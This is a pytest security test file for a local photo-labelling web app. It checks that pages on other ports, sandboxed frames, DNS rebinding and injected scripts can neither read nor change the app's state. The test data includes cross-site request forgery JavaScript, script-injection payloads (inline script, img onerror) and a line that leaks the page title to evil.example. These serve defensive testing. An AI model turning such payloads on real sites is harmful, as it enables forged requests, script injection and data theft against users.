"""What other pages in the user's browser may do to the studio: nothing.

Tried for real: a page on another port of this machine, which browsers count as the same site and to
which they send the cookie; a sandboxed frame, whose origin is `null`; a foreign name that points to
this machine (DNS rebinding); a script that got into our own page.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from mien.dataset.drawn import draw_dataset

pytestmark = [pytest.mark.network, pytest.mark.slow]

TRY_ALL = """async (base) => {
  const said = {};
  const attempt = async (name, work) => {
    try { said[name] = await work(); } catch { said[name] = 'refused'; }
  };
  const post = (path, body, type) => fetch(base + path, {method: 'POST', mode: 'no-cors',
    credentials: 'include', headers: {'Content-Type': type}, body});
  await attempt('read', async () => (await fetch(base + '/api/project',
    {credentials: 'include'})).status);
  await attempt('write', () => post('/api/classes', '{"label": "evil"}', 'text/plain'));
  const form = new FormData();
  form.append('label', 'evil');
  form.append('files', new Blob(['x']), 'x.jpg');
  await attempt('upload', () => fetch(base + '/api/upload', {method: 'POST', mode: 'no-cors',
    credentials: 'include', body: form}));
  await attempt('picture', () => new Promise((yes, no) => {
    const image = new Image();
    image.onload = () => yes('shown');
    image.onerror = no;
    image.src = base + '/static/icon.svg';
  }));
  await attempt('socket', () => new Promise((yes, no) => {
    const line = new WebSocket(base.replace('http', 'ws') + '/api/try/camera');
    line.onopen = () => yes('open');
    line.onerror = no;
  }));
  return said;
}"""
SANDBOX = """(base) => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts allow-forms';
  frame.srcdoc = `<script>fetch('${base}/api/classes', {method: 'POST', mode: 'no-cors',
    credentials: 'include', headers: {'Content-Type': 'text/plain'},
    body: '{"label": "evil"}'}).finally(() => parent.postMessage('tried', '*'))<` + '/script>';
  window.addEventListener('message', () => done(true));
  document.body.append(frame);
})"""


class Evil(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"<!doctype html><title>evil</title><body></body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        return


@pytest.fixture
def evil() -> Iterator[str]:
    """A page of somebody else on this machine."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def classes(page: Any) -> list[str]:
    state = page.evaluate("fetch('/api/project').then((answer) => answer.json())")
    return [one["label"] for one in state["classes"]]


def test_a_page_on_another_port_can_neither_read_nor_change_anything(
    tmp_path: Path, world: Any, evil: str
) -> None:
    root = tmp_path / "photos"
    draw_dataset(root, classes=("happy", "sad"), n_per_class=2, seed=1, size_px=64)
    with world.running(root) as studio, world.opened(studio) as page:
        other = page.context.new_page()
        other.goto(evil)
        # The cookie is really sent there: what refuses is the guard.
        cookies = page.context.cookies(evil)
        assert any(one["name"].startswith("mien_") for one in cookies)
        said = other.evaluate(TRY_ALL, studio.base)
        assert said["read"] == said["picture"] == said["socket"] == "refused"
        assert other.evaluate(SANDBOX, studio.base)
        assert classes(page) == ["happy", "sad"]
        # Nor can it be framed, or opened but by the link's door.
        other.evaluate("""(base) => { const frame = document.createElement('iframe');
            frame.src = base; document.body.append(frame); }""", studio.base)  # fmt: skip
        other.wait_for_timeout(500)
        framed = [frame for frame in other.frames if frame.url.startswith(studio.base)]
        assert not any(frame.locator("#board").count() for frame in framed)


def test_a_foreign_name_for_this_machine_gets_nothing(tmp_path: Path, world: Any) -> None:
    with (
        world.running(tmp_path / "photos") as studio,
        world.other_browser("--host-resolver-rules=MAP rebound.example 127.0.0.1") as other,
    ):
        page = other.browser.new_page()
        answer = page.goto(studio.link.replace("127.0.0.1", "rebound.example"))
        assert answer.status == 421
        assert "does not answer to that host" in page.inner_text("body")
        # The link was not used up by it.
        assert page.goto(studio.link).status == 200


def test_a_script_that_got_into_our_page_does_not_run(tmp_path: Path, world: Any) -> None:
    with world.running(tmp_path / "photos") as studio, world.opened(studio) as page:
        world.complaints.allow("Content Security Policy")
        world.complaints.expected.add(404)  # the picture that is to fail
        page.evaluate("""() => { const script = document.createElement('script');
            script.textContent = 'window.evil = 1'; document.body.append(script); }""")
        page.evaluate("""() => { const image = document.createElement('div');
            image.innerHTML = '<img src="x" onerror="window.evil = 1">';
            document.body.append(image); }""")
        page.evaluate("""() => fetch('https://evil.example/?' + document.title)
            .then(() => { window.evil = 1; }).catch(() => {})""")
        page.wait_for_timeout(500)
        assert page.evaluate("window.evil") is None
        # The secret is none of a script's business.
        assert f"mien_{studio.base.rpartition(':')[2]}" not in page.evaluate("document.cookie")
    world.complaints.said = [one for one in world.complaints.said if "evil.example" not in one]


def test_the_link_opens_once_and_a_second_browser_is_sent_away(tmp_path: Path, world: Any) -> None:
    with world.running(tmp_path / "photos") as studio, world.opened(studio):
        stranger = world.browser.new_context().new_page()
        assert stranger.goto(studio.link).status == 403
        assert stranger.goto(studio.base).status == 401
        stranger.context.close()
